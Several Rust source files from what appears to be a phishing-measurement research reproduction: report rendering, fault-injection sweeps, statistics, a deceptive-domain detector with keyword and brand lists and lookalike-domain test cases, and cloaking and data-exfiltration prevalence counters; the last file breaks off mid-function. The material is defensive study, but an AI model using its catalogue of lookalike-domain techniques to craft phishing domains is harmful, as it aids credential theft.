    pub table2: Table2,
    /// Figure 2: monthly volumes.
    pub figure2: Figure2,
    /// Figure 3: timedelta distributions.
    pub figure3: Figure3,
    /// §V class mix.
    pub class_mix: ClassMix,
    /// §V-A spear statistics.
    pub spear: SpearStats,
    /// §V-A volume statistics.
    pub volumes: DomainVolumeStats,
    /// §V-A lexical statistics over landing domains.
    pub lexical: LexicalStats,
    /// §V-B non-targeted breakdown.
    pub nontargeted: NonTargetedStats,
    /// §V-C prevalence counts.
    pub cloaking: CloakingPrevalence,
    /// Challenge-gated credential messages `(gated, total)` measured by the
    /// weak-crawler differential.
    pub challenge_gating: (usize, usize),
    /// Footnote-1 t-test (2023 vs 2024 volumes).
    pub t_test: Option<TTestResult>,
    /// §IV-A funnel (computed at published rates).
    pub funnel: FunnelReport,
    /// Distinct landing URLs observed.
    pub landing_urls: usize,
}

/// Run the complete analysis over scan records.
pub fn analyze(world: &Internet, spec: &CorpusSpec, records: &[ScanRecord]) -> AnalysisReport {
    let figure2 = figures::figure2(records);
    let scaled_2023: [usize; 10] = {
        let mut a = [0usize; 10];
        for (i, v) in spec.monthly_2023.iter().enumerate() {
            a[i] = (*v as f64 * spec.scale).round() as usize;
        }
        a
    };
    let t_test = figures::volume_t_test(&scaled_2023, &figure2);
    let domains = tables::landing_domains(records);
    AnalysisReport {
        table1: table1::table1(),
        ablation: table1::ablation(),
        table2: tables::table2(records),
        figure3: figures::figure3(records),
        class_mix: ClassMix::of(records),
        spear: tables::spear_stats(records),
        volumes: volumes::domain_volumes(records),
        lexical: lexical::analyze_domains(domains.iter().map(String::as_str)),
        nontargeted: nontargeted::nontargeted_stats(records),
        cloaking: cloaking::prevalence(records),
        challenge_gating: cloaking::measure_challenge_gating(world, records),
        t_test,
        funnel: FunnelReport::paper_monthly(),
        landing_urls: tables::landing_urls(records).len(),
        figure2,
    }
}

impl AnalysisReport {
    /// Render a human-readable summary (the repro binary prints this).
    pub fn render(&self) -> String {
        let mut out = String::new();
        out.push_str("== Table I: crawler vs bot-detection ==\n");
        out.push_str(&self.table1.to_string());
        out.push_str("\n== A1 ablation: NotABot knock-outs ==\n");
        out.push_str(&self.ablation.to_string());
        out.push_str("\n== Table II: landing-domain TLDs ==\n");
        out.push_str(&self.table2.to_string());
        out.push_str("\n== Figure 2: messages per month ==\n");
        out.push_str(&self.figure2.to_string());
        out.push_str("\n== Figure 3: deployment timeline ==\n");
        out.push_str(&self.figure3.to_string());
        out.push_str("\n== Class mix ==\n");
        out.push_str(&self.class_mix.to_string());
        out.push_str("\n== Spear phishing ==\n");
        out.push_str(&format!(
            "active {} / spear {} ({:.1}%) / hotlinking {} ({:.1}% of spear)\n",
            self.spear.active,
            self.spear.spear,
            self.spear.spear as f64 * 100.0 / self.spear.active.max(1) as f64,
            self.spear.hotlinking,
            self.spear.hotlinking as f64 * 100.0 / self.spear.spear.max(1) as f64,
        ));
        out.push_str(&format!(
            "landing URLs {} / landing domains {}\n",
            self.landing_urls, self.table2.total_domains
        ));
        out.push_str("\n== Domain volumes ==\n");
        out.push_str(&format!(
            "messages/domain: mean {:.2} median {:.1} max {}\n",
            self.volumes.mean_messages, self.volumes.median_messages, self.volumes.max_messages
        ));
        out.push_str(&format!(
            "dns 30d: singles max/day {:.1} total {:.1}; multi max/day {:.1} total {:.1}\n",
            self.volumes.single_median_max_per_day,
            self.volumes.single_median_total,
            self.volumes.multi_median_max_per_day,
            self.volumes.multi_median_total
        ));
        out.push_str("\n== Lexical ==\n");
        out.push_str(&format!(
            "deceptive {} / {} ({:.1}%), punycode {}\n",
            self.lexical.deceptive,
            self.lexical.total,
            self.lexical.deceptive as f64 * 100.0 / self.lexical.total.max(1) as f64,
            self.lexical.punycode
        ));
        out.push_str("\n== Non-targeted (V-B) ==\n");
        out.push_str(&format!(
            "messages {} / html attachments {} / landing domains {} (deceptive {})\n",
            self.nontargeted.messages,
            self.nontargeted.html_attachment_messages,
            self.nontargeted.landing_domains,
            self.nontargeted.deceptive_domains
        ));
        for (service, n) in &self.nontargeted.by_service {
            out.push_str(&format!("  {service}: {n}\n"));
        }
        out.push_str("\n== Cloaking prevalence ==\n");
        out.push_str(&self.cloaking.to_string());
        out.push_str(&format!(
            "challenge-gated: {} / {} credential messages ({:.1}%)\n",
            self.challenge_gating.0,
            self.challenge_gating.1,
            self.challenge_gating.0 as f64 * 100.0 / self.challenge_gating.1.max(1) as f64
        ));
        if let Some(t) = &self.t_test {
            out.push_str(&format!("\n== t-test 2023 vs 2024 ==\n{t}\n"));
        }
        out.push_str(&format!(
            "\n== Funnel (monthly) ==\ninbound {} / filtered {} / reported {} / malicious {}\n",
            self.funnel.inbound,
            self.funnel.filtered,
            self.funnel.reported,
            self.funnel.confirmed_malicious
        ));
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::CrawlerBox;
    use cb_phishgen::{Corpus, CorpusSpec};

    #[test]
    fn full_report_assembles_and_renders() {
        let spec = CorpusSpec::paper().with_scale(0.05);
        let corpus = Corpus::generate(&spec, 77);
        let records = CrawlerBox::new(&corpus.world).scan_all(&corpus.messages);
        let report = analyze(&corpus.world, &spec, &records);
        let rendered = report.render();
        for needle in [
            "Table I",
            "NotABot",
            "Table II",
            "Figure 2",
            "Figure 3",
            "Class mix",
            "Spear",
            "Cloaking",
            "Funnel",
        ] {
            assert!(rendered.contains(needle), "missing section {needle}");
        }
        // serializes for the bench/JSON log path
        let json = serde_json::to_string(&report).unwrap();
        assert!(json.contains("table1"));
    }
}
