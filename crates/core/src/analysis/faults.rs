//! The `repro faults` experiment: transient-fault sweeps proving the crawl
//! supervisor's recovery guarantee.
//!
//! Three arms are generated from the same seed: a fault-free **baseline**,
//! a **supervised** arm scanning the same corpus under injected transient
//! faults with the default retry policy, and a **retry-less** arm with
//! supervision disabled. The claim under test: supervision makes the §V
//! class mix and the Table I verdict matrix *invariant* under faults
//! (per-message class agreement 1.0), while the retry-less pipeline
//! demonstrably degrades.

use crate::analysis::table1::{self, Table1};
use crate::analysis::tables::ClassMix;
use crate::logging::ScanRecord;
use crate::pipeline::{CrawlerBox, ScanPolicy};
use cb_phishgen::{Corpus, CorpusSpec};
use serde::{Deserialize, Serialize};
use std::fmt;

/// One arm of the sweep, summarised.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct FaultArm {
    /// Arm name (`baseline`, `supervised`, `retryless`).
    pub label: String,
    /// The arm's §V class mix.
    pub class_mix: ClassMix,
    /// Fraction of messages whose derived class matches the baseline's
    /// (order-aligned; 1.0 for the baseline itself).
    pub class_agreement: f64,
    /// Visits that observed at least one transient fault.
    pub visits_with_faults: usize,
    /// Total visit attempts across all messages (> visit count means the
    /// supervisor retried).
    pub total_attempts: usize,
    /// Visits that still carried an error after supervision.
    pub failed_visits: usize,
}

/// The full `repro faults` report.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct FaultSweepReport {
    /// Injected transient-fault rate of the faulted arms.
    pub fault_rate: f64,
    /// Fault-free reference arm.
    pub baseline: FaultArm,
    /// Faults + default supervision.
    pub supervised: FaultArm,
    /// Faults + retries disabled.
    pub retryless: FaultArm,
    /// Table I recomputed under every arm came out identical.
    pub table1_invariant: bool,
    /// Supervised class mix equals the baseline class mix exactly.
    pub supervised_matches_baseline: bool,
    /// Retry-less class mix equals the baseline class mix.
    pub retryless_matches_baseline: bool,
}

/// Run the three-arm sweep at `rate` (e.g. `0.2` = 20% of URLs flaky).
pub fn fault_sweep(spec: &CorpusSpec, seed: u64, rate: f64) -> FaultSweepReport {
    let (base_records, base_table1) = run_arm(spec, seed, ScanPolicy::default());
    let faulty = spec.clone().with_fault_rate(rate);
    let (sup_records, sup_table1) = run_arm(&faulty, seed, ScanPolicy::default());
    let (raw_records, raw_table1) =
        run_arm(&faulty, seed, ScanPolicy::default().with_max_retries(0));

    let baseline = summarize("baseline", &base_records, &base_records);
    let supervised = summarize("supervised", &sup_records, &base_records);
    let retryless = summarize("retryless", &raw_records, &base_records);
    FaultSweepReport {
        fault_rate: rate,
        table1_invariant: base_table1 == sup_table1 && base_table1 == raw_table1,
        supervised_matches_baseline: supervised.class_mix == baseline.class_mix
            && (supervised.class_agreement - 1.0).abs() < f64::EPSILON,
        retryless_matches_baseline: retryless.class_mix == baseline.class_mix,
        baseline,
        supervised,
        retryless,
    }
}

/// Generate a fresh corpus for one arm (same seed, so the three corpora
/// are identical modulo the installed fault plan) and scan it.
fn run_arm(spec: &CorpusSpec, seed: u64, policy: ScanPolicy) -> (Vec<ScanRecord>, Table1) {
    let corpus = Corpus::generate(spec, seed);
    let records = CrawlerBox::new(&corpus.world)
        .with_policy(policy)
        .scan_all(&corpus.messages);
    (records, table1::table1())
}

fn summarize(label: &str, records: &[ScanRecord], baseline: &[ScanRecord]) -> FaultArm {
    let agreeing = records
        .iter()
        .zip(baseline)
        .filter(|(r, b)| r.class == b.class)
        .count();
    let visits = records.iter().flat_map(|r| r.visits.iter());
    FaultArm {
        label: label.to_string(),
        class_mix: ClassMix::of(records),
        class_agreement: agreeing as f64 / records.len().max(1) as f64,
        visits_with_faults: visits
            .clone()
            .filter(|v| v.attempts.iter().any(|a| !a.failures.is_empty()))
            .count(),
        total_attempts: visits.clone().map(|v| v.attempts.len()).sum(),
        failed_visits: visits.filter(|v| v.error.is_some()).count(),
    }
}

impl fmt::Display for FaultSweepReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(
            f,
            "fault sweep @ {:.0}% transient-fault rate",
            self.fault_rate * 100.0
        )?;
        for arm in [&self.baseline, &self.supervised, &self.retryless] {
            writeln!(
                f,
                "{:>11}: agreement {:>6.1}% | faulted visits {:>4} | attempts {:>5} | still-failed {:>4}",
                arm.label,
                arm.class_agreement * 100.0,
                arm.visits_with_faults,
                arm.total_attempts,
                arm.failed_visits,
            )?;
        }
        writeln!(
            f,
            "table I invariant: {} | supervised mix == baseline: {} | retryless mix == baseline: {}",
            self.table1_invariant, self.supervised_matches_baseline, self.retryless_matches_baseline
        )?;
        writeln!(f, "\nsupervised class mix:\n{}", self.supervised.class_mix)?;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sweep_report_assembles() {
        let spec = CorpusSpec::paper().with_scale(0.01);
        let report = fault_sweep(&spec, 5, 0.2);
        assert!(report.table1_invariant);
        assert!(
            report.supervised_matches_baseline,
            "supervision must recover the class mix: {report}"
        );
        assert!(report.supervised.total_attempts >= report.baseline.total_attempts);
        let rendered = report.to_string();
        assert!(rendered.contains("supervised"));
        let json = serde_json::to_string(&report).unwrap();
        assert!(json.contains("class_agreement"));
    }
}
