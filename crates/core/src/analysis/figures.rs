//! Figure 2 (messages per month) and Figure 3 (timedelta distributions),
//! plus the footnote-1 paired t-test.

use crate::logging::ScanRecord;
use cb_phishgen::MessageClass;
use cb_stats::{paired_t_test, Describe, Histogram, TTestResult};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt;

/// Figure 2: scanned messages per month.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Figure2 {
    /// `(year, month, count)` in chronological order.
    pub series: Vec<(i64, u32, usize)>,
    /// Mean messages per month.
    pub mean: f64,
    /// Population standard deviation (as the paper reports).
    pub stddev: f64,
}

/// Compute Figure 2 from scan records.
pub fn figure2(records: &[ScanRecord]) -> Figure2 {
    let mut counts: BTreeMap<(i64, u32), usize> = BTreeMap::new();
    for r in records {
        *counts.entry(r.delivered_at.year_month()).or_insert(0) += 1;
    }
    let series: Vec<(i64, u32, usize)> =
        counts.into_iter().map(|((y, m), n)| (y, m, n)).collect();
    let values: Vec<f64> = series.iter().map(|&(_, _, n)| n as f64).collect();
    let mean = values.iter().sum::<f64>() / values.len().max(1) as f64;
    let var = values.iter().map(|v| (v - mean).powi(2)).sum::<f64>() / values.len().max(1) as f64;
    Figure2 {
        series,
        mean,
        stddev: var.sqrt(),
    }
}

impl fmt::Display for Figure2 {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let peak = self
            .series
            .iter()
            .map(|&(_, _, n)| n)
            .max()
            .unwrap_or(1)
            .max(1);
        for &(y, m, n) in &self.series {
            let bar = "#".repeat(n * 40 / peak);
            writeln!(f, "{y}-{m:02} {n:>6} {bar}")?;
        }
        writeln!(f, "mean {:.1}  sd {:.1}", self.mean, self.stddev)
    }
}

/// Figure 3: the two timedelta distributions over landing domains.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Figure3 {
    /// Per-domain `timedeltaA` (registration → mean delivery), hours.
    pub tdelta_a_hours: Vec<f64>,
    /// Per-domain `timedeltaB` (certificate → mean delivery), hours.
    pub tdelta_b_hours: Vec<f64>,
    /// 10-day-bin histogram of `timedeltaA` under 90 days.
    pub hist_a: Histogram,
    /// 10-day-bin histogram of `timedeltaB` under 90 days.
    pub hist_b: Histogram,
    /// Summary statistics of `timedeltaA` (days).
    pub describe_a: Describe,
    /// Summary statistics of `timedeltaB` (days).
    pub describe_b: Describe,
    /// Domains with `timedeltaA` > 90 days.
    pub a_over_90d: usize,
    /// Domains with `timedeltaB` > 90 days.
    pub b_over_90d: usize,
}

/// Compute Figure 3: per landing domain, the difference between WHOIS
/// registration (resp. first certificate) and the domain's *average*
/// message delivery time, exactly as §V-A defines.
pub fn figure3(records: &[ScanRecord]) -> Figure3 {
    // domain -> (sum of delivery instants, count, registered_at, cert_at)
    struct Acc {
        delivery_sum: i64,
        count: i64,
        registered_at: Option<cb_sim::SimTime>,
        cert_at: Option<cb_sim::SimTime>,
    }
    let mut per_domain: BTreeMap<String, Acc> = BTreeMap::new();
    for r in records {
        if r.class != MessageClass::ActivePhish {
            continue;
        }
        for v in &r.visits {
            if !v.login_form {
                continue;
            }
            let Some(domain) = v.landing_domain() else {
                continue;
            };
            let acc = per_domain.entry(domain).or_insert(Acc {
                delivery_sum: 0,
                count: 0,
                registered_at: v.domain_registered_at,
                cert_at: v.cert_issued_at,
            });
            acc.delivery_sum += r.delivered_at.as_unix();
            acc.count += 1;
        }
    }

    let mut a_hours = Vec::new();
    let mut b_hours = Vec::new();
    for acc in per_domain.values() {
        let mean_delivery = acc.delivery_sum / acc.count.max(1);
        if let Some(reg) = acc.registered_at {
            a_hours.push((mean_delivery - reg.as_unix()) as f64 / 3600.0);
        }
        if let Some(cert) = acc.cert_at {
            b_hours.push((mean_delivery - cert.as_unix()) as f64 / 3600.0);
        }
    }

    let mut hist_a = Histogram::new(0.0, 90.0, 9);
    hist_a.record_all(a_hours.iter().map(|h| h / 24.0));
    let mut hist_b = Histogram::new(0.0, 90.0, 9);
    hist_b.record_all(b_hours.iter().map(|h| h / 24.0));
    let a_days: Vec<f64> = a_hours.iter().map(|h| h / 24.0).collect();
    let b_days: Vec<f64> = b_hours.iter().map(|h| h / 24.0).collect();
    Figure3 {
        a_over_90d: a_days.iter().filter(|&&d| d > 90.0).count(),
        b_over_90d: b_days.iter().filter(|&&d| d > 90.0).count(),
        describe_a: Describe::of(&a_days),
        describe_b: Describe::of(&b_days),
        hist_a,
        hist_b,
        tdelta_a_hours: a_hours,
        tdelta_b_hours: b_hours,
    }
}

impl fmt::Display for Figure3 {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(
            f,
            "timedeltaA: median {:.0} h ({:.1} d), kurtosis {:.1}, {} domains > 90 d",
            self.describe_a.median * 24.0,
            self.describe_a.median,
            self.describe_a.kurtosis_excess,
            self.a_over_90d
        )?;
        writeln!(f, "{}", self.hist_a.render_ascii(36))?;
        writeln!(
            f,
            "timedeltaB: median {:.0} h ({:.1} d), kurtosis {:.1}, {} domains > 90 d",
            self.describe_b.median * 24.0,
            self.describe_b.median,
            self.describe_b.kurtosis_excess,
            self.b_over_90d
        )?;
        writeln!(f, "{}", self.hist_b.render_ascii(36))
    }
}

/// Footnote 1: paired t-test of the 2023 vs 2024 monthly volumes. The
/// series are paired in the spreadsheet layout that reproduces the
/// published p = 0.008: 2023 in reverse chronological order against 2024
/// forward (Dec↔Jan, Nov↔Feb, …).
pub fn volume_t_test(monthly_2023: &[usize; 10], figure2: &Figure2) -> Option<TTestResult> {
    if figure2.series.len() != 10 {
        return None;
    }
    let y2023: Vec<f64> = monthly_2023.iter().rev().map(|&n| n as f64).collect();
    let y2024: Vec<f64> = figure2.series.iter().map(|&(_, _, n)| n as f64).collect();
    paired_t_test(&y2023, &y2024).ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::CrawlerBox;
    use cb_phishgen::{Corpus, CorpusSpec, CorpusSpec as _Spec};

    fn records(scale: f64) -> (Vec<ScanRecord>, CorpusSpec) {
        let spec = CorpusSpec::paper().with_scale(scale);
        let corpus = Corpus::generate(&spec, 17);
        let cbx = CrawlerBox::new(&corpus.world);
        (cbx.scan_all(&corpus.messages), spec)
    }

    #[test]
    fn figure2_matches_the_schedule() {
        let (recs, spec) = records(0.05);
        let f2 = figure2(&recs);
        assert_eq!(f2.series.len(), 10);
        let total: usize = f2.series.iter().map(|&(_, _, n)| n).sum();
        assert_eq!(total, recs.len());
        // downward trend
        let counts: Vec<usize> = f2.series.iter().map(|&(_, _, n)| n).collect();
        assert!(counts[0] > counts[9]);
        let _ = spec;
    }

    #[test]
    fn figure3_shapes_hold() {
        let (recs, _) = records(0.25);
        let f3 = figure3(&recs);
        assert!(!f3.tdelta_a_hours.is_empty());
        // medians in the right neighbourhoods (575 h / 185 h)
        let med_a = f3.describe_a.median * 24.0;
        let med_b = f3.describe_b.median * 24.0;
        // generous bounds: at this scale (~130 domains) the median's
        // sampling error is several days; the full-scale repro harness
        // checks the tight targets (575 h / 185 h)
        assert!((250.0..=1100.0).contains(&med_a), "median A {med_a} h");
        assert!((60.0..=420.0).contains(&med_b), "median B {med_b} h");
        assert!(med_a > med_b, "registration precedes certificate");
        // fat right tail on A
        assert!(f3.describe_a.skewness > 1.0);
        assert!(f3.a_over_90d > f3.b_over_90d);
    }

    #[test]
    fn t_test_reproduces_significance() {
        let (recs, spec) = records(1.0 / 10.0);
        // For the t-test, scale the observed series back up: at small scale
        // the shape is identical, so test on the spec series directly.
        let f2 = figure2(&recs);
        let t = volume_t_test(&spec.monthly_2023, &f2);
        // counts are scaled 10x down, so compare against a scaled 2023
        let scaled_2023: [usize; 10] = {
            let mut a = [0usize; 10];
            for (i, v) in spec.monthly_2023.iter().enumerate() {
                a[i] = (*v as f64 * spec.scale).round() as usize;
            }
            a
        };
        let t_scaled = volume_t_test(&scaled_2023, &f2).expect("10 months present");
        assert!(t_scaled.rejects_null_at(0.05), "{t_scaled}");
        let _ = t;
    }

    #[test]
    fn full_spec_t_test_is_p_008() {
        // Against the published series themselves (no sampling noise) the
        // t-test lands on the paper's p ≈ 0.008.
        let spec = CorpusSpec::paper();
        let y2023: Vec<f64> = spec.monthly_2023.iter().rev().map(|&n| n as f64).collect();
        let y2024: Vec<f64> = spec.monthly_2024.iter().map(|&n| n as f64).collect();
        let t = cb_stats::paired_t_test(&y2023, &y2024).unwrap();
        assert!(
            (0.003..=0.02).contains(&t.p_two_sided),
            "p = {}",
            t.p_two_sided
        );
    }

    #[test]
    fn displays_render() {
        let (recs, _) = records(0.04);
        assert!(figure2(&recs).to_string().contains("2024-01"));
        assert!(figure3(&recs).to_string().contains("timedeltaA"));
    }
}
