//! §V-A lexical analysis of landing domains: deceptive-naming detection
//! (combosquatting, target embedding, homoglyphs, keyword stuffing,
//! typosquatting) and the punycode check.

use cb_netsim::DomainName;
use serde::{Deserialize, Serialize};

/// The deceptive technique detected, if any.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum DeceptiveNaming {
    /// Brand combined with keywords (`amadora-login.com`).
    Combosquatting,
    /// Brand embedded inside a longer name.
    TargetEmbedding,
    /// ASCII homoglyph substitution (`amad0ra`).
    Homoglyph,
    /// Keyword-stuffed name (`secure-login-verify-…`).
    KeywordStuffing,
    /// Edit-distance-1 typo of a brand.
    Typosquatting,
    /// IDNA punycode label.
    Punycode,
}

/// Lexical summary of a domain set.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct LexicalStats {
    /// Total domains analyzed.
    pub total: usize,
    /// Domains flagged with any deceptive technique.
    pub deceptive: usize,
    /// Punycode domains (the paper found zero).
    pub punycode: usize,
    /// `(domain, technique)` for every flag.
    pub flagged: Vec<(String, DeceptiveNaming)>,
}

/// The protected brand tokens the detector knows.
const BRANDS: &[&str] = &[
    "amadora",
    "skybook",
    "farelogic",
    "payroute",
    "tripaggregate",
    "microsoft",
    "onedrive",
    "office",
    "docusign",
];

/// Phishing keywords for the stuffing heuristic.
const KEYWORDS: &[&str] = &["login", "secure", "verify", "account", "signin", "auth", "update"];

/// Strip digits (serial suffixes do not change the lexical technique).
fn strip_digits(s: &str) -> String {
    s.chars().filter(|c| !c.is_ascii_digit()).collect()
}

/// Undo common ASCII homoglyph substitutions.
fn unhomoglyph(s: &str) -> String {
    s.replace('0', "o").replace('1', "l").replace('3', "e").replace('5', "s")
}

/// Damerau-free edit distance (insert/delete/substitute).
fn edit_distance(a: &str, b: &str) -> usize {
    let a: Vec<char> = a.chars().collect();
    let b: Vec<char> = b.chars().collect();
    let mut prev: Vec<usize> = (0..=b.len()).collect();
    let mut cur = vec![0usize; b.len() + 1];
    for (i, &ca) in a.iter().enumerate() {
        cur[0] = i + 1;
        for (j, &cb) in b.iter().enumerate() {
            let cost = usize::from(ca != cb);
            cur[j + 1] = (prev[j + 1] + 1).min(cur[j] + 1).min(prev[j] + cost);
        }
        std::mem::swap(&mut prev, &mut cur);
    }
    prev[b.len()]
}

/// Classify one domain name. Returns the first matching technique.
pub fn classify_domain(domain: &str) -> Option<DeceptiveNaming> {
    let name = DomainName::new(domain);
    if name.has_punycode() {
        return Some(DeceptiveNaming::Punycode);
    }
    let full = name.as_str().to_string();
    let registrable = name.registrable();
    let label = registrable.split('.').next().unwrap_or("");
    let stripped = strip_digits(label);

    // keyword stuffing: 3+ keywords in the name
    let keyword_hits = KEYWORDS.iter().filter(|k| full.contains(*k)).count();

    let unglyphed = strip_digits(&unhomoglyph(label));
    for brand in BRANDS {
        let contains_brand = stripped.contains(brand);
        if contains_brand {
            // exact brand plus keyword separators -> combosquatting
            if KEYWORDS.iter().any(|k| stripped.contains(k)) {
                return Some(if keyword_hits >= 3 {
                    DeceptiveNaming::KeywordStuffing
                } else {
                    DeceptiveNaming::Combosquatting
                });
            }
            return Some(DeceptiveNaming::TargetEmbedding);
        }
        // subdomain labels can embed the brand too
        if full.contains(brand) && !contains_brand {
            return Some(DeceptiveNaming::TargetEmbedding);
        }
        if !stripped.contains(brand) && unglyphed.contains(brand) {
            return Some(DeceptiveNaming::Homoglyph);
        }
        // typosquatting on the bare label
        let bare: String = stripped.replace('-', "");
        if !bare.contains(brand) && edit_distance(&bare, brand) == 1 {
            return Some(DeceptiveNaming::Typosquatting);
        }
    }
    if keyword_hits >= 3 {
        return Some(DeceptiveNaming::KeywordStuffing);
    }
    None
}

/// Analyze a set of domains.
pub fn analyze_domains<'a, I: IntoIterator<Item = &'a str>>(domains: I) -> LexicalStats {
    let mut stats = LexicalStats::default();
    for d in domains {
        stats.total += 1;
        if let Some(technique) = classify_domain(d) {
            if technique == DeceptiveNaming::Punycode {
                stats.punycode += 1;
            }
            stats.deceptive += 1;
            stats.flagged.push((d.to_string(), technique));
        }
    }
    stats
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn detects_each_technique() {
        assert_eq!(
            classify_domain("amadora-login3.com"),
            Some(DeceptiveNaming::Combosquatting)
        );
        assert_eq!(
            classify_domain("sso-skybook-accounts-verify1.ru"),
            Some(DeceptiveNaming::Combosquatting)
        );
        assert_eq!(
            classify_domain("amad0ra2.dev"),
            Some(DeceptiveNaming::Homoglyph)
        );
        assert_eq!(
            classify_domain("secure-login-verify-payroute4.buzz"),
            Some(DeceptiveNaming::KeywordStuffing)
        );
        assert_eq!(
            classify_domain("amadra7.com"),
            Some(DeceptiveNaming::Typosquatting)
        );
        assert_eq!(
            classify_domain("xn--amadra-bva.com"),
            Some(DeceptiveNaming::Punycode)
        );
    }

    #[test]
    fn neutral_names_are_clean() {
        for clean in [
            "cloud-portal-17.com",
            "nimbus-quartz-203.ru",
            "stream-vault-88.dev",
            "smallbiz-12.com",
        ] {
            assert_eq!(classify_domain(clean), None, "{clean}");
        }
    }

    #[test]
    fn brand_inside_subdomain_is_target_embedding() {
        assert_eq!(
            classify_domain("amadora.evil-host.com"),
            Some(DeceptiveNaming::TargetEmbedding)
        );
    }

    #[test]
    fn analyze_counts() {
        let stats = analyze_domains(
            ["amadora-login1.com", "cloud-hub-2.com", "xn--foo.com"]
                .iter()
                .copied(),
        );
        assert_eq!(stats.total, 3);
        assert_eq!(stats.deceptive, 2);
        assert_eq!(stats.punycode, 1);
    }

    #[test]
    fn corpus_domains_hit_the_82_target() {
        use cb_phishgen::{domains::generate_domains, CorpusSpec};
        use cb_sim::{SeedFork, SimTime};
        let spec = CorpusSpec::paper();
        let domains = generate_domains(
            &spec,
            &mut SeedFork::new(7).rng("domains"),
            SimTime::from_ymd(2024, 6, 1),
        );
        let stats = analyze_domains(domains.iter().map(|d| d.name.as_str()));
        assert_eq!(stats.total, 522);
        assert_eq!(stats.punycode, 0, "paper: zero punycode");
        // generator marks 82 deceptive; detector should agree closely
        assert!(
            (75..=95).contains(&stats.deceptive),
            "detected {} deceptive",
            stats.deceptive
        );
        // detector recall against generator labels
        let truth: usize = domains.iter().filter(|d| d.deceptive_name).count();
        assert_eq!(truth, 82);
    }

    #[test]
    fn edit_distance_basics() {
        assert_eq!(edit_distance("abc", "abc"), 0);
        assert_eq!(edit_distance("abc", "abd"), 1);
        assert_eq!(edit_distance("abc", "ab"), 1);
        assert_eq!(edit_distance("", "xyz"), 3);
    }
}
