//! §V-C: prevalence of evasion techniques, measured from crawl
//! observations (not ground truth).

use crate::extract::ExtractionSource;
use crate::logging::ScanRecord;
use cb_phishgen::MessageClass;
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;
use std::fmt;

/// Measured prevalence counts over the scanned corpus.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct CloakingPrevalence {
    /// Messages whose pages loaded Cloudflare Turnstile challenge
    /// resources (the loaded-resource observable the paper counts: 943).
    pub turnstile_messages: usize,
    /// Messages whose pages loaded reCAPTCHA v3 resources (314).
    pub recaptcha_messages: usize,
    /// Messages with console-hijacking scripts.
    pub console_hijack_messages: usize,
    /// Messages with `debugger`-timer scripts.
    pub debugger_timer_messages: usize,
    /// Messages whose pages exfiltrated visitor data (httpbin/ipapi chain).
    pub exfil_messages: usize,
    /// … of which used an httpbin-style IP echo.
    pub httpbin_messages: usize,
    /// … of which used an ipapi-style enrichment.
    pub ipapi_messages: usize,
    /// Messages whose pages ran a victim-database check.
    pub victim_check_messages: usize,
    /// Distinct domains running victim-check script traffic.
    pub victim_check_domains: usize,
    /// Messages with hue-rotated pages.
    pub hue_rotate_messages: usize,
    /// Messages gated by OTP prompts (solved or not).
    pub otp_gate_messages: usize,
    /// Messages gated by math challenges.
    pub math_challenge_messages: usize,
    /// Messages delivered via QR codes.
    pub qr_messages: usize,
    /// … of which faulty (strict-scanner-evading) QR codes.
    pub faulty_qr_messages: usize,
    /// Noise-padded messages (long blank-line runs + bulk).
    pub noise_padded_messages: usize,
    /// Messages passing all three email authentication checks.
    pub auth_pass_messages: usize,
    /// Total messages scanned.
    pub total: usize,
}

/// Measure prevalence from scan records.
pub fn prevalence(records: &[ScanRecord]) -> CloakingPrevalence {
    let mut p = CloakingPrevalence {
        total: records.len(),
        ..CloakingPrevalence::default()
    };
    let mut vc_domains: BTreeSet<String> = BTreeSet::new();
    for r in records {
        if r.auth_pass {
            p.auth_pass_messages += 1;
        }
        let qr = r
            .extracted
            .iter()
            .any(|e| matches!(e.source, ExtractionSource::QrCode { .. }));
        if qr {
            p.qr_messages += 1;
        }
        if r.has_faulty_qr() {
            p.faulty_qr_messages += 1;
        }
        if r.blank_line_run >= 8 && r.body_bytes > 1500 {
            p.noise_padded_messages += 1;
        }
        if r.class != MessageClass::ActivePhish {
            continue;
        }
        let mut turnstile = false;
        let mut recaptcha = false;
        let mut console = false;
        let mut debugger = false;
        let mut exfil = false;
        let mut httpbin = false;
        let mut ipapi = false;
        let mut victim = false;
        let mut hue = false;
        let mut otp = false;
        let mut math = false;
        for v in &r.visits {
            console |= v.console_hijacked;
            debugger |= v.debugger_hits > 0;
            for (url, _, _) in &v.exfil {
                if url.contains(cb_phishkit::infrastructure::TURNSTILE_HOST) {
                    turnstile = true;
                }
                if url.contains(cb_phishkit::infrastructure::RECAPTCHA_HOST) {
                    recaptcha = true;
                }
                if url.contains(cb_phishkit::infrastructure::COLLECT_PATH) {
                    exfil = true;
                }
                if url.contains(cb_phishkit::infrastructure::HTTPBIN_HOST) {
                    httpbin = true;
                }
                if url.contains(cb_phishkit::infrastructure::IPAPI_HOST) {
                    ipapi = true;
                }
                if url.contains(cb_phishkit::infrastructure::VICTIM_CHECK_PATH) {
                    victim = true;
                    if let Some(d) = v.landing_domain() {
                        vc_domains.insert(d);
                    }
                }
            }
            hue |= v.hue_rotated;
            otp |= v.gates_solved.iter().any(|g| g == "otp");
            math |= v.gates_solved.iter().any(|g| g == "math");
        }
        p.turnstile_messages += turnstile as usize;
        p.recaptcha_messages += recaptcha as usize;
        p.console_hijack_messages += console as usize;
        p.debugger_timer_messages += debugger as usize;
        p.exfil_messages += exfil as usize;
        p.httpbin_messages += httpbin as usize;
        p.ipapi_messages += ipapi as usize;
